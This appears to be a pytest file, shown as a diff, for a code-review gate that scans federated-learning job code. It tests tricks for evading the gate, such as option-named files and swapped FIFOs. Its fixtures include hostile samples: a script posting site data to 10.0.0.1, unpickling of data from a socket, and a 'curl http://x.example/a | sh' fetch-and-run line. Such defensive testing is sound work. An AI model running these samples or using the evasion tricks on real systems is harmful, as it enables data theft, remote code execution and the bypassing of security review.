@@ -1,0 +1,110 @@
+"""Session 39's attacks on the gate itself, by an author who has read the engines' and the collector's code:
+a file named like an option of the engine the gate starts, a file an engine gives up on, a FIFO the ranking
+of a unit's files would open, and a file swapped for a FIFO between the site's listing and its hash. Each
+leaves the decision and every other finding standing."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT
+
+from analyzer import api
+from analyzer.engine import collect as collect_mod
+from analyzer.model import Decision
+
+# Site data read and posted out: semgrep's own rule (site-data-sent-over-http) and jobgate's rules both see it.
+UPLOADER = (
+    "import requests\n\n"
+    "def upload(path):\n"
+    "    data = open(path).read()\n"
+    "    requests.post('http://10.0.0.1/u', data=data)\n\n"
+    "upload('/data/site/train.csv')\n"
+)
+
+
+def _scan(target: Path, *engines: str) -> tuple[int, dict]:
+    args = [sys.executable, "-m", "analyzer.commands.cli", "scan", "--no-cache", "--format", "json", str(target)]
+    for engine in engines:
+        args += ["--engines", engine]
+    proc = subprocess.run(args, cwd=ROOT, capture_output=True, timeout=600)
+    assert proc.returncode in (0, 1, 3), proc.stderr.decode()[-2000:]
+    return proc.returncode, json.loads(proc.stdout)["reports"][0]
+
+
+def _found(report: dict) -> set[tuple[str, str, str]]:
+    return {(f["engine"], f["rule"], f["path"]) for f in report["findings"]}
+
+
+@pytest.mark.skipif(not Path(sys.executable).with_name("semgrep").exists(), reason="semgrep not installed")
+def test_a_file_named_like_a_semgrep_option_is_scanned_not_obeyed(tmp_path: Path) -> None:
+    """`-ox.py` beside the payload was semgrep's `-o x.py`: its results went to a file, its second opinion
+    was lost (an engine failure in its place). Paths now follow `--`."""
+    (tmp_path / "train.py").write_text(UPLOADER)
+    (tmp_path / "-ox.py").write_text("LEARNING_RATE = 0.01\n")
+    code, report = _scan(tmp_path, "semgrep")
+    assert code == 1 and report["decision"] == "reject"
+    found = _found(report)
+    assert ("semgrep", "semgrep.site-data-sent-over-http", "train.py") in found
+    assert ("jobgate", "network.http-client", "train.py") in found
+    assert not any(rule == "unanalyzable.engine-semgrep" for _, rule, _ in found)
+
+
+def test_a_file_bandit_gives_up_on_is_bandits_failure_and_every_other_finding_stands(tmp_path: Path) -> None:
+    """bandit skips a file it cannot parse and said nothing of it: the site asked for its opinion of every
+    file, so the skipped one is bandit's own failure finding, named, beside what both engines found."""
+    (tmp_path / "train.py").write_text(
+        "import pickle\nimport socket\n\n"
+        "def receive_weights(sock):\n    return pickle.loads(sock.recv(1 << 20))\n\n"
+        "weights = receive_weights(socket.create_connection(('10.0.0.1', 9000)))\n")
+    (tmp_path / "legacy_metrics.py").write_text("def report(acc):\n    print \"accuracy\", acc\n")
+    code, report = _scan(tmp_path, "bandit")
+    assert code == 1 and report["decision"] == "reject"
+    found = _found(report)
+    assert ("bandit", "unanalyzable.engine-bandit", "legacy_metrics.py") in found
+    assert ("jobgate", "unanalyzable.parse-error", "legacy_metrics.py") in found
+    assert {("bandit", "bandit.B301", "train.py"), ("jobgate", "deserialization.untrusted-pickle", "train.py"),
+            ("jobgate", "network.raw-socket", "train.py")} <= found
+
+
+def test_ranking_a_units_files_never_opens_a_fifo_or_device(tmp_path: Path, monkeypatch) -> None:
+    """The read order peeks at every listed entry's first bytes; a FIFO (or a device: a watchdog starts on
+    open) is reported as a special file and never opened, also not to rank it."""
+    (tmp_path / "train.py").write_text('import os\nos.system("curl http://x.example/a | sh")\n')
+    os.mkfifo(tmp_path / "stage.py")
+    opened: list[str] = []
+    real_open = os.open
+    monkeypatch.setattr(collect_mod.os, "open", lambda path, *a, **k: opened.append(str(path)) or real_open(path, *a, **k))
+    report = api.scan(tmp_path, api.load_policy())
+    assert str(tmp_path / "stage.py") not in opened
+    assert report.decision is Decision.REJECT
+    rules = {(f.rule, f.path) for f in report.findings}
+    assert {("unanalyzable.special-file", "stage.py"), ("remote-code.fetch-and-run-command", "train.py")} <= rules
+
+
+def test_a_deployed_file_swapped_for_a_fifo_is_a_change_not_a_hang(tmp_path: Path) -> None:
+    """The job route hashes the app folder to compare it with the deploy record. A file that became a FIFO
+    after the listing's lstat was opened blocking (the job process hung before NVFlare built anything):
+    now it is never waited on and differs from the record."""
+    from handler import snapshot
+
+    app = tmp_path / "app_site-1"
+    (app / "custom").mkdir(parents=True)
+    (app / "custom" / "train.py").write_text("x = 1\n")
+    before = snapshot.listing(app)
+    (app / "custom" / "train.py").unlink()
+    os.mkfifo(app / "custom" / "train.py")
+    hashed: list[str] = []
+    worker = threading.Thread(target=lambda: hashed.append(snapshot._sha256(str(app / "custom" / "train.py"))),
+                              daemon=True)
+    worker.start()
+    worker.join(10)
+    assert hashed == ["special"]
+    assert snapshot.differences(before, snapshot.listing(app)) == ["custom/train.py"]
